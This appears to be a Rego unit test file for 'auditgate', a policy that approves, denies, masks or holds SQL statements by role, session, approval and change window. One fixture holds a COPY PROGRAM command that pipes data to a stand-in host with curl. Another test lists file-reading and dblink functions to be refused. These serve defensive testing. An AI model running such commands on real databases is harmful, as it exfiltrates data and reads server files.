# Unit tests for data.auditgate.statement (opa test policies/rego policies/data).
package auditgate.rules.statement_test

import data.auditgate.fixtures_test as fx

test_plain_read_is_allowed_and_cacheable if {
	d := data.auditgate.statement with input as fx.statement_input(fx.agent, fx.reader_session, {
		"tables": [{"schema": "public", "name": "orders", "access": "read"}],
	})
	d.allow
	d.deny == []
	d.approval == {"required": false, "approvers": [], "reason": "", "ttl_seconds": 0, "count": 1}
	d.mask == []
	d.cacheable
	d.ignores_literals
}

test_decisions_on_literal_bearing_kinds_hold_for_their_text_only if {
	d := data.auditgate.statement with input as fx.statement_input(fx.agent, fx.reader_session, {
		"kind": "set",
		"set": {"name": "search_path", "value": "public", "reset": false, "local": false},
	})
	d.cacheable
	not d.ignores_literals
}

test_delete_without_where_inside_a_cte_is_refused if {
	d := data.auditgate.statement with input as fx.statement_input(fx.writer_agent, fx.writer_session, {
		"kind": "select",
		"operations": [{"kind": "delete", "table": fx.orders, "has_where": false}],
	})
	d.allow == false
	fx.any_contains(d.deny, "DELETE on public.orders without WHERE is not allowed")
	d.approval.required == false
}

test_an_approval_setting_can_demand_several_approvers if {
	fields := {"kind": "update", "command_tag": "UPDATE", "operations": [{"kind": "update", "table": fx.orders, "has_where": true}]}
	two := object.union(data.auditgate_config.approvals, {"production_writes": {"approvers": ["dba-oncall"], "ttl_seconds": 900, "count": 2}})
	held := data.auditgate.statement with input as fx.statement_input(fx.writer_agent, fx.writer_session, fields)
		with data.auditgate_config.approvals as two
	held.approval.required
	held.approval.count == 2
}

test_production_update_needs_approval_and_an_approval_releases_it if {
	fields := {"kind": "update", "command_tag": "UPDATE", "operations": [{"kind": "update", "table": fx.orders, "has_where": true}]}
	held := data.auditgate.statement with input as fx.statement_input(fx.writer_agent, fx.writer_session, fields)
	held.allow == false
	held.approval.required
	held.approval.approvers == ["dba-oncall"]
	contains(held.approval.reason, "production table public.orders")
	held.cacheable == false # change window consulted
	approved := object.union(fx.statement_input(fx.writer_agent, fx.writer_session, fields), {"approval": {
		"id": "apr-1", "approved_by": "dana@acme.test", "approver_groups": ["dba-oncall"],
		"approved_at": "2026-01-05T10:01:00Z",
	}})
	released := data.auditgate.statement with input as approved
	released.allow
	"approved" in released.tags
	self := data.auditgate.statement with input as self_approved(approved)
	self.allow == false
	fx.any_contains(self.deny, "was given by the requester")
}

self_approved(i) := object.union(i, {"approval": {"approved_by": i.identity.subject}})

test_read_only_session_refuses_writes if {
	d := data.auditgate.statement with input as fx.statement_input(fx.agent, fx.reader_session, {
		"kind": "insert", "command_tag": "INSERT",
		"operations": [{"kind": "insert", "table": {"schema": "scratch", "name": "notes"}, "has_where": false}],
	})
	d.allow == false
	d.deny == ["INSERT on scratch.notes is not allowed: the session is read-only (role auditgate_reader)"]
}

test_set_role_and_privileges_are_refused if {
	d1 := data.auditgate.statement with input as fx.statement_input(fx.dba, fx.writer_session, {
		"kind": "set_role", "command_tag": "SET", "read_only": false,
		"set": {"name": "session_authorization", "value": "postgres", "reset": false, "local": false},
	})
	fx.any_contains(d1.deny, "SET SESSION AUTHORIZATION is not allowed")
	d2 := data.auditgate.statement with input as fx.statement_input(fx.dba, fx.writer_session, {"kind": "privilege", "command_tag": "GRANT"})
	fx.any_contains(d2.deny, "GRANT is not allowed")
}

test_dangerous_function_in_any_schema_is_refused if {
	d := data.auditgate.statement with input as fx.statement_input(fx.agent, fx.reader_session, {
		"functions": [{"schema": "pg_catalog", "name": "pg_read_file"}, {"schema": null, "name": "dblink_connect"}],
	})
	fx.any_contains(d.deny, "function pg_catalog.pg_read_file() is not allowed")
	fx.any_contains(d.deny, "function dblink_connect() is not allowed")
	"dangerous" in d.tags
}

test_copy_program_is_refused if {
	d := data.auditgate.statement with input as fx.statement_input(fx.dba, fx.writer_session, {
		"kind": "copy_to", "command_tag": "COPY",
		"copy": {"direction": "to", "program": true, "target": "curl -d @- https://x", "stdio": false, "format": null},
	})
	fx.any_contains(d.deny, "PROGRAM")
}

test_masks_unless_cleared if {
	fields := {"tables": [{"schema": null, "name": "customers", "access": "read"}]}
	agent := data.auditgate.statement with input as fx.statement_input(fx.agent, fx.reader_session, fields)
	{"column": "public.customers.ssn", "method": "partial"} in agent.mask
	{"column": "public.customers.email", "method": "email"} in agent.mask
	"sensitive" in agent.tags
	"email" in agent.detectors
	dba := data.auditgate.statement with input as fx.statement_input(fx.dba, fx.writer_session, fields)
	dba.mask == [{"column": "public.customers.card_number", "method": "partial"}]
}

test_change_window_is_data_driven if {
	fields := {"kind": "insert", "operations": [{"kind": "insert", "table": fx.orders, "has_where": false}]}
	night := object.union(fx.statement_input(fx.writer_agent, fx.writer_session, fields), {"time": fx.saturday_03})
	refused := data.auditgate.statement with input as night
	fx.any_contains(refused.deny, "outside the change window")
	held := data.auditgate.statement with input as night
		with data.auditgate_config.change_window.action as "approval"
	held.deny == []
	held.approval.required
	contains(held.approval.reason, "outside the change window")
	held.cacheable == false
}

test_fail_closed if {
	d1 := data.auditgate.statement with input as fx.statement_input(fx.agent, fx.reader_session, {
		"kind": "parse_error", "error": {"message": "syntax error at or near \"FORM\"", "position": 10},
	})
	d1.deny == ["statement could not be parsed: syntax error at or near \"FORM\""]
	d2 := data.auditgate.statement with input as fx.statement_input(fx.agent, fx.reader_session, {"kind": "vacuum_full"})
	fx.any_contains(d2.deny, "statement kind 'vacuum_full' is not recognised")
	d3 := data.auditgate.statement with input as fx.statement_input(fx.agent, fx.reader_session, {
		"kind": "execute", "prepared": {"name": "p1", "known": false},
	})
	fx.any_contains(d3.deny, "EXECUTE of prepared statement 'p1'")
	d4 := data.auditgate.statement with input as object.remove(fx.statement_input(fx.agent, fx.reader_session, {}), ["identity"])
	fx.any_contains(d4.deny, "no identity")
}

test_production_tables_come_from_data if {
	fields := {"kind": "update", "operations": [{"kind": "update", "table": {"schema": "scratch", "name": "notes"}, "has_where": true}]}
	d1 := data.auditgate.statement with input as fx.statement_input(fx.writer_agent, fx.writer_session, fields)
	d1.allow
	d2 := data.auditgate.statement with input as fx.statement_input(fx.writer_agent, fx.writer_session, fields)
		with data.auditgate_config.production.schemas as ["scratch"]
	d2.approval.required
}

test_session_without_read_only_flag_is_read_only if {
	i := fx.statement_input(fx.writer_agent, fx.session, {
		"kind": "insert",
		"operations": [{"kind": "insert", "table": {"schema": "scratch", "name": "notes"}, "has_where": false}],
	})
	d := data.auditgate.statement with input as i
	fx.any_contains(d.deny, "the session is read-only (role (no role))")
}

test_masks_fall_back_to_class_and_default_methods if {
	fields := {"tables": [{"schema": "hr", "name": "people", "access": "read"}]}
	d := data.auditgate.statement with input as fx.statement_input(fx.agent, fx.reader_session, fields)
		with data.auditgate_config.masking.columns as {"hr": {"people": {"salary": {"class": "pii"}, "notes": {"class": "unknown_class"}}}}
	d.mask == [{"column": "hr.people.notes", "method": "redact"}, {"column": "hr.people.salary", "method": "redact"}]
	d2 := data.auditgate.statement with input as fx.statement_input(fx.agent, fx.reader_session, fields)
		with data.auditgate_config.masking.columns as {"hr": {"people": {"salary": {"class": "pci"}}}}
	d2.mask == [{"column": "hr.people.salary", "method": "partial"}]
}

test_clearance_claim_clears_when_enabled if {
	agent := object.union(fx.agent, {"claims": {"auditgate_clearances": ["pii", "pii_sensitive"]}})
	fields := {"tables": [{"schema": "public", "name": "customers", "access": "read"}]}
	off := data.auditgate.statement with input as fx.statement_input(agent, fx.reader_session, fields)
	{"column": "public.customers.email", "method": "email"} in off.mask
	on := data.auditgate.statement with input as fx.statement_input(agent, fx.reader_session, fields)
		with data.auditgate_config.masking.clearance_claim as "auditgate_clearances"
	on.mask == [{"column": "public.customers.card_number", "method": "partial"}]
}

test_a_session_on_an_access_grant_is_refused_once_the_grant_ends if {
	fields := {"tables": [{"schema": "public", "name": "orders", "access": "read"}]}
	granted := object.union(fx.writer_session, {"grant": {"request_id": "r-1", "role": "auditgate_writer", "until": "2026-01-05T10:30:00.000Z"}})
	before := data.auditgate.statement with input as object.union(fx.statement_input(fx.agent, granted, fields), {"time": {"now": "2026-01-05T10:29:59.000Z", "hour": 10, "weekday": "monday"}})
	before.allow
	before.cacheable == false
	after := data.auditgate.statement with input as object.union(fx.statement_input(fx.agent, granted, fields), {"time": {"now": "2026-01-05T10:30:00.000Z", "hour": 10, "weekday": "monday"}})
	after.allow == false
	fx.any_contains(after.deny, "the access grant r-1 for role auditgate_writer ended at 2026-01-05T10:30:00.000Z")
}
